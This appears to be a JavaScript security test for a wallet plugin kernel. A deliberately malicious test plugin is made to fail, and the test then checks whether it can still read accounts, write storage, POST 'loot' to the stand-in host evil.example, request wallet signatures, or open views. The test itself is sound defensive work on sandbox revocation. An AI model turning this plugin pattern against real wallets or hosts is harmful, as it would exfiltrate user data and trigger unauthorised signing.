import {
  ConnectionService,
  defineStorageKey,
  NetworkService,
  NoticeService,
  ViewService,
} from 'latchkey/kernel'
import { attempt, page, settled, spy, until, visitor } from './world.mjs'

export const row = 'SEC-86'

const permissions = [
  'http:https://evil.example',
  'inspect',
  'storage',
  'view:open',
  'wallet:accounts',
  'wallet:request',
]
const key = defineStorageKey({ name: 'evil/plugin/loot', lifetime: 'kept', parse: String })
const endpoint = { host: 'https://evil.example', path: '/', method: 'POST', name: 'loot' }

/** It keeps all that it was handed, and is switched off for what it throws; the kit goes on. */
export async function attack() {
  let had
  const evil = spy(
    {
      permissions,
      needs: {
        card: ViewService,
        connection: ConnectionService,
        networks: NetworkService,
        notices: NoticeService,
      },
    },
    (services, ctx) => {
      const { http, inspector, rpc, storage, views } = ctx
      const scope = storage.scope('deep')
      had = { ...services, alerts: ctx.alerts, http, inspector, rpc, scope, storage, views }
      had.fail = () => {
        for (const fault of ['first', 'second']) ctx.run(Promise.reject(new Error(fault)))
      }
    },
  )
  const { kit, wallet, environment, statusOf } = await page({
    reviewRequests: 'never',
    plugins: [evil],
    grants: { 'evil/plugin': permissions },
  })
  await until(() => had, 'its set-up')
  had.alerts.raise({ code: 'before', kind: 'ok', title: 'Still here' })
  await settled()
  had.fail()
  await until(() => statusOf() === 'failed', 'its end')

  const {
    card,
    connection,
    networks,
    notices,
    alerts,
    http,
    inspector,
    rpc,
    scope,
    storage,
    views,
  } = had
  const stored = () => JSON.stringify(environment.storage.keys().map(environment.storage.get))
  const asked = wallet.requests.length
  const tries = {
    accounts: async () => (await connection.list()).length > 0,
    networks: () => networks.networkOf('eip155:1').name,
    facts: () => inspector.recorded().length > 0,
    state: () => inspector.inspect().plugins.length > 0,
    written: () => (storage.write(key, 'loot'), stored().includes('loot')),
    'written deeper': () => (scope.write(key, 'deep loot'), stored().includes('deep loot')),
    read: () => storage.read(key),
    asked: async () => {
      await attempt(() => http.call(endpoint, { parse: String }))
      return environment.http.requests.some(({ url }) => url.host === 'evil.example')
    },
    signed: () => rpc.request({ method: 'personal_sign', params: ['0x62', visitor] }),
    raised: async () => {
      await attempt(() => notices.raise({ code: 'evil', kind: 'ok', title: 'Still here' }))
      await attempt(() => alerts.raise({ code: 'evil', kind: 'ok', title: 'Still here' }))
      await attempt(() => notices.toast({ kind: 'ok', text: 'Still here' }))
      await settled()
      return JSON.stringify(kit.getState()).includes('Still here')
    },
    opened: async () => {
      await attempt(() => card.open({ id: 'Account' }))
      await attempt(() => views.open({ id: 'Account' }))
      await settled()
      return kit.getState().router.isOpen
    },
    disconnected: async () => {
      await attempt(() => connection.disconnect())
      return !JSON.stringify(kit.getState()).includes(visitor)
    },
  }
  const got = []
  for (const [name, run] of Object.entries(tries)) if (await attempt(run)) got.push(name)
  if (wallet.requests.length > asked) got.push('the wallet was asked')
  await kit.dispose()
  return got.length > 0 ? got : undefined
}
